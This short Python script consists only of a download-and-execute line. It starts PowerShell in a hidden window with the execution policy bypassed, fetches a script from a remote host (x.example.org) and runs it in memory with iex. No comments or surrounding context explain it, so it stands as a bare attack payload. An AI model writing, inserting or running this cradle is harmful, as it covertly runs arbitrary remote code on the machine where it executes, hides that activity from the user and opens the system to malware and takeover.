import os
os.system("powershell -w hidden -ep bypass -c iex (New-Object Net.WebClient).DownloadString('http://x.example.org/a')")
